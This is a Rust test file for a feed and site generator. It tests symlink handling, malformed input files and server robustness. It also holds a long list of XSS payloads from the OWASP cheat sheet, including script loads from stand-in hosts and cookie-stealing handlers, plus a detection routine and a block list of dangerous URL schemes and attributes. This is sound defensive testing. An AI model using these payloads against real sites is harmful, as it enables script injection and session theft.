        symlink(root, root.join("posts/loop")).unwrap(); // a folder that contains itself
        symlink("b.md", root.join("posts/a.md")).unwrap(); // two links pointing at each other
        symlink("a.md", root.join("posts/b.md")).unwrap();
        symlink("self.md", root.join("posts/self.md")).unwrap();
        symlink("missing.md", root.join("posts/dangling.md")).unwrap();
        let site = build_with(root, &extra);
        assert_feeds_valid(&site);
        assert_others_unaffected(&base, &site, &[]);
        assert_eq!(site.index().len(), base.articles.len(), "follow = {follow}");
    }
}

#[cfg(unix)]
#[test]
fn symlinks_out_of_the_root_are_followed_only_when_configured() {
    use std::os::unix::fs::symlink;
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(
        outside.path().join("secret.md"),
        "---\ntitle: Outside the root\ncategory: Elsewhere\ndate: 2024-06-01\n---\n\nText.\n",
    )
    .unwrap();
    std::fs::create_dir(outside.path().join("folder")).unwrap();
    std::fs::write(
        outside.path().join("folder/inner.md"),
        "---\ntitle: Inside a linked folder\ndate: 2024-06-02\n---\n\nText.\n",
    )
    .unwrap();
    for follow in [false, true] {
        let extra = format!("[content]\ngit_dates = false\nfollow_symlinks = {follow}\n");
        let base = baseline(&extra);
        let dir = copy_fixture("mixed");
        symlink(outside.path().join("secret.md"), dir.path().join("posts/linked.md")).unwrap();
        symlink(outside.path().join("folder"), dir.path().join("linked-folder")).unwrap();
        let site = build_with(dir.path(), &extra);
        assert_feeds_valid(&site);
        assert_others_unaffected(&base, &site, &["posts/linked.md", "linked-folder/inner.md"]);
        let paths: Vec<&str> = site.index().articles().map(|a| a.path.as_str()).collect();
        let all = titles(&parse_feed(&site.feeds()["all.atom"].identity().bytes));
        if follow {
            assert!(paths.contains(&"posts/linked.md"), "{paths:?}");
            assert!(paths.contains(&"linked-folder/inner.md"), "{paths:?}");
            assert!(all.contains(&"Outside the root".to_string()));
            assert!(site.feeds().contains_key("elsewhere.rss"));
        } else {
            assert!(!paths.contains(&"posts/linked.md"), "{paths:?}");
            assert!(!paths.iter().any(|p| p.starts_with("linked-folder")), "{paths:?}");
            assert!(!all.iter().any(|t| t.contains("Outside") || t.contains("linked folder")));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Script injection (OWASP XSS filter evasion cheat sheet)

/// Inputs from the OWASP XSS Filter Evasion Cheat Sheet, adapted to Markdown where it has its
/// own syntax for the same thing.
const XSS: &[&str] = &[
    // Basic and obfuscated script tags
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script>alert('XSS')</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT/SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<SCRIPT>alert(/XSS/.source)</SCRIPT>",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<SCRIPT a=\">\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" '' SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">'>\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\\\";alert('XSS');//",
    "</script><script>alert('XSS');</script>",
    "<script>alert(1)",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
    // Image and event handlers
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG\nSRC\n=\n\"\nj\na\nv\na\ns\nc\nr\ni\np\nt\n:\na\nl\ne\nr\nt\n(\n'\nX\nS\nS\n'\n)\n\"\n>\n",
    "<IMG SRC=java\0script:alert(\"XSS\")>",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<IMG SRC=\"livescript:[code]\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img src=x onerror=alert(1)//",
    "<BODY ONLOAD=alert('XSS')>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<svg/onload=alert('XSS')>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<b onmouseover=alert('Wufff!')>click me!</b>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    "<p style=\"x\" onclick='alert(1)' id=\"a\" onClick=\"alert(2)\">p</p>",
    // javascript: and friends in links
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#9;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#10;ascript:alert(1)\">x</a>",
    "<a href=\"jav\nascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"javascript://%0aalert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href='javascript:alert(\"quoted\")'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<a href=\"http://a/\" onclick=\"alert(1)\" target=_blank>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x\" onerror=\"alert(1)](https://img.example.org/a.png)",
    "[a](https://example.org/\" onclick=\"alert(1))",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    // Styles and expressions
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<STYLE>BODY{-moz-binding:url(\"https://xss.example/xssmoz.xml#xss\")}</STYLE>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<LINK REL=\"stylesheet\" HREF=\"https://xss.example/xss.css\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<span style=\"color:red\">styled</span>",
    // Frames, objects, embeds
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=\"x\"></applet>",
    // Meta, base, forms
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example/\"><input name=q><button>go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<isindex action=\"javascript:alert(1)\" type=image>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    // Odd parsing: unclosed tags, nested quotes, comments, CDATA, namespaces
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    "<a href=\"http://a/\"\"onclick=\"alert(1)\">nested quotes</a>",
    "<a href='http://a/'\"onclick=alert(1)//'>x</a>",
    "<img src=\"x\" alt=\"\"\" onerror=\"alert(1)\">",
    "<img src=x alt=`` onerror=alert(1)>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<HTML xmlns:xss><?import namespace=\"xss\" implementation=\"https://xss.example/xss.htc\"><xss:xss>XSS</xss:xss></HTML>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>",
    "<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>\"></BODY></HTML>",
    "<DIV onmouseover='alert(1)'>div</DIV>",
    "<TD onmouseover=alert(1)>",
    "`<script>alert('code span')</script>`",
    "```\n<script>alert('code block')</script>\n```",
    "    <script>alert('indented code')</script>",
];

/// Whether `url` (an attribute value, entities already decoded) would run code or load an
/// inline document when followed.
fn dangerous_url(url: &str) -> bool {
    let squeezed: String = url
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .flat_map(char::to_lowercase)
        .collect();
    ["javascript:", "vbscript:", "livescript:", "data:", "mocha:"]
        .iter()
        .any(|s| squeezed.starts_with(s))
}

/// Decode the character references an HTML serializer writes in attribute values.
fn decode_html_attr(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(i) = rest.find('&') {
        out.push_str(&rest[..i]);
        let after = &rest[i..];
        let end = after.find(';').filter(|&e| e < 12);
        match end.map(|e| &after[1..e]) {
            Some("amp") => out.push('&'),
            Some("quot") => out.push('"'),
            Some("lt") => out.push('<'),
            Some("gt") => out.push('>'),
            Some("nbsp") => out.push('\u{a0}'),
            Some(n) if n.starts_with('#') => {
                let v = match n[1..].strip_prefix(['x', 'X']) {
                    Some(h) => u32::from_str_radix(h, 16).ok(),
                    None => n[1..].parse().ok(),
                };
                out.push(v.and_then(char::from_u32).unwrap_or('\u{FFFD}'));
            }
            _ => {
                out.push('&');
                rest = &after[1..];
                continue;
            }
        }
        rest = &after[end.unwrap() + 1..];
    }
    out.push_str(rest);
    out
}

/// Elements a sanitised article body may hold.
const ALLOWED: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "area",
    "article",
    "aside",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "map",
    "mark",
    "nav",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
    "section",
];

/// Scan sanitised HTML tag by tag: only allowed elements, no event handler, style or frame
/// attribute, no script-running URL in any attribute. Text between tags is escaped by the
/// serializer, so `&lt;script&gt;` there is harmless text.
fn assert_inert(what: &str, html: &str) {
    let mut rest = html;
    while let Some(open) = rest.find('<') {
        let tail = &rest[open + 1..];
        // A tag as an HTML5 serializer writes it: attribute values double-quoted, `"` escaped.
        let mut close = None;
        let mut in_quote = false;
        for (i, c) in tail.char_indices() {
            match c {
                '"' => in_quote = !in_quote,
                '>' if !in_quote => {
                    close = Some(i);
                    break;
                }
                _ => {}
            }
        }
        let close = close.unwrap_or_else(|| panic!("{what}: unterminated tag in {html:?}"));
        let tag = &tail[..close];
        rest = &tail[close + 1..];
        if tag.starts_with('!') {
            panic!("{what}: comment or doctype survived: <{tag}> in {html:?}");
        }
        let tag = tag.trim_start_matches('/');
        let name_end = tag.find(|c: char| c.is_whitespace() || c == '/').unwrap_or(tag.len());
        let name = tag[..name_end].to_ascii_lowercase();
        assert!(ALLOWED.contains(&name.as_str()), "{what}: element <{name}> survived in {html:?}");
        // Attributes: name="value" pairs.
        let mut attrs = &tag[name_end..];
        loop {
            attrs = attrs.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
            if attrs.is_empty() {
                break;
            }
            let n_end = attrs.find(['=', ' ', '/']).unwrap_or(attrs.len());
            let attr = attrs[..n_end].to_ascii_lowercase();
            attrs = &attrs[n_end..];
            let mut value = String::new();
            if let Some(v) = attrs.strip_prefix("=\"") {
                let end = v.find('"').expect("quoted attribute");
                value = decode_html_attr(&v[..end]);
                attrs = &v[end + 1..];
            }
            assert!(
                !attr.starts_with("on")
                    && !matches!(
                        attr.as_str(),
                        "style"
                            | "srcdoc"
                            | "formaction"
                            | "action"
                            | "background"
                            | "dynsrc"
                            | "lowsrc"
                            | "datasrc"
                            | "xmlns"
                            | "xlink:href"
                            | "http-equiv"
                    ),
                "{what}: attribute {attr}={value:?} survived in {html:?}"
            );
            assert!(!dangerous_url(&value), "{what}: {attr}={value:?} survived in {html:?}");
        }
    }
    let lower = html.to_ascii_lowercase();
    for bad in ["<script", "<iframe", "<style", "<object", "<embed", "<svg", "<math", "<meta"] {
        assert!(!lower.contains(bad), "{what}: {bad} in {html:?}");
    }
}

#[test]
fn the_inertness_check_catches_what_it_looks_for() {
    for bad in [
        "<script>x</script>",
        "<a href=\"jav&#x61;script:x\">x</a>",
        "<a href=\" &#x09;JAVASCRIPT:x\">x</a>",
        "<img src=\"x\" onerror=\"y\">",
        "<p style=\"color:red\">x</p>",
        "<img src=\"data:image/svg+xml,x\">",
        "<iframe src=\"https://x.example/\"></iframe>",
        "<!-- x -->",
    ] {
        let caught = std::panic::catch_unwind(|| assert_inert("probe", bad));
        assert!(caught.is_err(), "the check let {bad:?} through");
    }
    assert_inert(
        "fine",
        "<p>ok <a href=\"https://x.example/?a=1&amp;b=2\" rel=\"noopener noreferrer\">x</a> &lt;script&gt;</p>",
    );
}

fn xss_article(payload: &str) -> String {
    format!("---\ntitle: XSS probe\ncategory: Probes\ndate: 2025-01-01\n---\n\nBefore the probe.\n\n{payload}\n\nAfter the probe.\n")
}

#[test]
fn xss_payloads_survive_in_no_feed_and_no_page() {
    // All payloads in one article, and each in an article of its own (a payload's own
    // unclosed tag must not change how the next is read, and must not be helped by another).
    let all: String = XSS.join("\n\n");
    let mut files: Vec<(String, Vec<u8>)> =
        vec![("probes/all.md".into(), xss_article(&all).into_bytes())];
    for (i, payload) in XSS.iter().enumerate() {
        files.push((format!("probes/p{i:03}.md"), xss_article(payload).into_bytes()));
    }
    let base = baseline("[content]\ngit_dates = false\n[feeds]\nitems = 500\n");
    let file_refs: Vec<(&str, &[u8])> =
        files.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    let dir = fixture_with(&file_refs);
    let site = build_with(dir.path(), "[content]\ngit_dates = false\n[feeds]\nitems = 500\n");
    assert_feeds_valid(&site);
    let rels: Vec<&str> = files.iter().map(|(p, _)| p.as_str()).collect();
    assert_others_unaffected(&base, &site, &rels);

    let rss = rss::Channel::read_from(&site.feeds()["probes.rss"].identity().bytes[..]).unwrap();
    let atom = atom_syndication::Feed::read_from(&site.feeds()["probes.atom"].identity().bytes[..])
        .unwrap();
    assert_eq!(rss.items().len(), files.len());
    assert_eq!(atom.entries().len(), files.len());
    for item in rss.items() {
        let what = format!("rss {}", item.link().unwrap());
        assert_inert(&what, item.content().expect("content:encoded"));
        assert_inert(&what, item.description().unwrap_or_default());
        // (A payload that opens a raw-text element such as `<script` may swallow the rest.)
        assert!(item.content().unwrap().contains("Before the probe"), "{what}");
    }
    for entry in atom.entries() {
        let what = format!("atom {}", entry.links()[0].href());
        assert_inert(&what, entry.content().and_then(|c| c.value()).expect("atom content"));
    }
    // The article pages: the same body inside Herald's page chrome.
    let bodies = site.bodies();
    let snapshot = herald::serve::snapshot(&site);
    for (rel, _) in &files {
        let article = article(&site, rel);
        let body = bodies.html(article).unwrap();
        assert_inert(&format!("page body {rel}"), &body);
        let page = herald::http::pages::article_page(
            article,
            &body,
            &snapshot,
            "Test",
            "https://feeds.example.org",
        );
        let inner = page
            .split_once("<article>")
            .and_then(|(_, rest)| rest.rsplit_once("</article>"))
            .map(|(inner, _)| inner)
            .expect("an <article> element");
        assert_inert(&format!("page {rel}"), inner);
        assert_eq!(page.matches("<script").count(), 0, "{rel}");
    }
}

#[test]
fn xss_in_the_title_category_and_source_is_text() {
    let text = "---\ntitle: \"<script>alert(1)</script><img src=x onerror=alert(2)>\"\ncategory: \"<svg onload=alert(3)>\"\nsource: \"javascript:alert(4)\"\nauthor: \"<b onclick=alert(5)>me</b>\"\n---\n\nText.\n";
    let (_dir, site, _) = check_one("posts/xss-meta.md", text.as_bytes());
    assert_eq!(
        feed_title(&site, "posts/xss-meta.md"),
        "<script>alert(1)</script><img src=x onerror=alert(2)>"
    );
    for c in feed_contents(&site, "posts/xss-meta.md") {
        assert!(!c.contains("javascript:"), "{c}");
        assert_inert("meta", &c);
    }
    let a = article(&site, "posts/xss-meta.md");
    let snapshot = herald::serve::snapshot(&site);
    let body = site.bodies().html(a).unwrap();
    let page = herald::http::pages::article_page(a, &body, &snapshot, "T", "https://x.example");
    let lower = page.to_ascii_lowercase();
    assert!(!lower.contains("<script") && !lower.contains("<svg") && !lower.contains("<img src=x"));
    assert!(!lower.contains("href=\"javascript:"), "{page}");
}

// ---------------------------------------------------------------------------------------------
// The running server

mod served {
    use super::*;
    use std::time::{Duration, Instant};

    fn get(addr: std::net::SocketAddr, path: &str) -> (u16, Vec<u8>) {
        let r = raw::get(addr, path);
        (r.status, r.body)
    }

    fn eventually(addr: std::net::SocketAddr, path: &str, check: impl Fn(u16, &[u8]) -> bool) {
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let (status, body) = get(addr, path);
            if check(status, &body) {
                return;
            }
            if Instant::now() > deadline {
                panic!("{path}: last answer {status}:\n{}", String::from_utf8_lossy(&body));
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Every feed the index lists parses, strictly and with the format crates.
    fn assert_served_feeds_valid(addr: std::net::SocketAddr, names: &[&str]) {
        for name in names {
            let (status, body) = get(addr, &format!("/feeds/{}", herald::site::encode_path(name)));
            assert_eq!(status, 200, "{name}");
            if name.ends_with(".json") {
                serde_json::from_slice::<serde_json::Value>(&body).expect(name);
                parse_feed(&body);
                continue;
            }
            assert_well_formed(name, &body);
            if name.ends_with(".opml") {
                continue;
            }
            parse_feed(&body);
            if name.ends_with(".rss") {
                rss::Channel::read_from(&body[..]).unwrap();
            } else {
                atom_syndication::Feed::read_from(&body[..]).unwrap();
            }
        }
    }

    #[test]
    fn a_served_folder_survives_bad_files_and_a_big_folder_rename() {
        let content = copy_fixture("mixed");
        let out = tempfile::tempdir().unwrap();
        let root = content.path();
        let running = herald::serve::start(config_with(
            root,
            out.path(),
            "[feeds]\nitems = 1000\n[content]\ngit_dates = false\nmax_file_bytes = 100000\n",
        ))
        .unwrap();
        let addr = running.addr;
        let (_, before) = get(addr, "/feeds/all.atom");
        let before_titles = titles(&parse_feed(&before));
        assert_eq!(before_titles.len(), 9);

        // A batch of bad files, then a good marker written after them.
        let write = |rel: &str, bytes: &[u8]| {
            let p = root.join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, bytes).unwrap();
        };
        write("posts/empty.md", b"");
        write("posts/binary.md", b"\x89PNG\r\n\x1a\n\0\0\0\0\0\0\0\xff\xfe\0\0");
        write("posts/nul.md", b"## Nul\0 title\n\nText\0.\n");
        write("posts/cut.md", b"## Cut \xe5\xad\n\nText.\n");
        write("posts/xss.md", xss_article(&XSS.join("\n\n")).as_bytes());
        write("posts/refs.md", b"## Refs &#xD800; &#0; &#x1;\n\nText &#xFFFE;.\n");
        write("posts/big.md", &vec![b'a'; 200_000]);
        write("posts/fm.md", b"---\ntitle: [unclosed\ndate: 2021-13-45\n");
        write("posts/zz-marker.md", b"## Marker after the bad files\n\nText.\n");
        eventually(addr, "/feeds/all.atom", |s, b| {
            s == 200 && String::from_utf8_lossy(b).contains("Marker after the bad files")
        });
        let (_, after) = get(addr, "/feeds/all.atom");
        let after_titles = titles(&parse_feed(&after));
        for t in &before_titles {
            assert!(after_titles.contains(t), "{t} is gone: {after_titles:?}");
        }
        let names: Vec<String> = running.current.load().feeds.keys().cloned().collect();
        let names: Vec<&str> = names.iter().map(String::as_str).collect();
        assert_served_feeds_valid(addr, &names);
        // The XSS article's page and feed entry are inert.
        let (status, page) = get(addr, "/articles/posts/xss.md");
        assert_eq!(status, 200);
        let page = String::from_utf8(page).unwrap();
        let inner = page.split_once("<article>").unwrap().1.rsplit_once("</article>").unwrap().0;
        assert_inert("served page", inner);
        let (_, rss) = get(addr, "/feeds/posts.rss");
        let channel = rss::Channel::read_from(&rss[..]).unwrap();
        for item in channel.items() {
            assert_inert("served rss", item.content().unwrap_or_default());
        }
        // Every other article's page is still served.
        for path in ["posts/ferries.md", "reports/2021/01/810001.md", "slot/17/README.md"] {
            let (status, _) = get(addr, &format!("/articles/{}", herald::site::encode_path(path)));
            assert_eq!(status, 200, "{path}");
        }

        // A folder of hundreds of files (some bad) appears, then is renamed at once.
        let staging = tempfile::tempdir_in(root.parent().unwrap()).unwrap();
        for i in 0..400 {
            let text = match i % 10 {
                0 => b"\xff\xfe\x00\xd8 not really utf16".to_vec(),
                1 => vec![0u8; 64],
                2 => format!("## Broken {i} \u{1}\u{fffe}\n\nText &#xD800;.\n").into_bytes(),
                _ => format!(
                    "---\ntitle: Bulk {i:03}\ncategory: Bulk Notes\ndate: 2025-03-01\n---\n\nNote {i}.\n"
                )
                .into_bytes(),
            };
            let p = staging.path().join(format!("{:03}/note-{i}.md", i % 20));
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        }
        let bulk = root.join("bulk");
        std::fs::rename(staging.path(), &bulk).unwrap();
        let good = (0..400).filter(|i| i % 10 >= 3).count();
        eventually(addr, "/feeds/bulk-notes.atom", |s, b| {
            s == 200 && String::from_utf8_lossy(b).matches("<entry>").count() == good
        });
        std::fs::rename(&bulk, root.join("bulk-renamed")).unwrap();
        eventually(addr, "/feeds/all.atom", |_, b| {
            let text = String::from_utf8_lossy(b);
            text.contains("articles/bulk-renamed/") && !text.contains("articles/bulk/")
        });
        eventually(addr, "/feeds/bulk-notes.atom", |s, b| {
            s == 200 && {
                let text = String::from_utf8_lossy(b);
                text.matches("<entry>").count() == good && !text.contains("articles/bulk/")
            }
        });
        let names: Vec<String> = running.current.load().feeds.keys().cloned().collect();
        let names: Vec<&str> = names.iter().map(String::as_str).collect();
        assert_served_feeds_valid(addr, &names);
        let (_, after) = get(addr, "/feeds/all.atom");
        let after_titles = titles(&parse_feed(&after));
        for t in &before_titles {
            assert!(after_titles.contains(t), "{t} is gone after the rename");
        }
        running.stop().unwrap();
    }
}

// ---------------------------------------------------------------------------------------------
// File names

#[cfg(unix)]
#[test]
fn a_file_name_that_is_not_utf8() {
    use std::os::unix::ffi::OsStrExt;
    let base = baseline(NO_GIT);
    let dir = copy_fixture("mixed");
    let name = std::ffi::OsStr::from_bytes(b"caf\xe9-latin1.md");
    let path = dir.path().join("posts").join(name);
    std::fs::write(&path, "## Latin-1 file name\n\nThe body of the Latin-1 file.\n").unwrap();
    let site = build_with(dir.path(), NO_GIT);
    assert_feeds_valid(&site);
